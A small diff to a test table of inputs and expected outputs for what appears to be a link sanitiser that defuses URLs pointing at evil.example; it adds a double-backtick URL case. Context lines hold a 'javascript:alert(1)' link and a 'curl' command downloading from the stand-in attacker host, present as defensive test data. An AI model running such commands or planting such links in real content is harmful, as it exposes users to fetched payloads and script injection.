@@ -169,6 +169,7 @@ LINKS = [
     ("Write to bad@evil.example now.", "Write to `bad@evil.example` now."),
     ("[Run](javascript:alert(1))", None),
     ("<https://evil.example/a>", "`evil.example/a`"),
+    ("See ``https://evil.example/a`` now.", "See ``evil.example/a`` now."),
     ("Run `curl https://evil.example/a -o x` now.", "Run `curl evil.example/a -o x` now."),
 ]
 
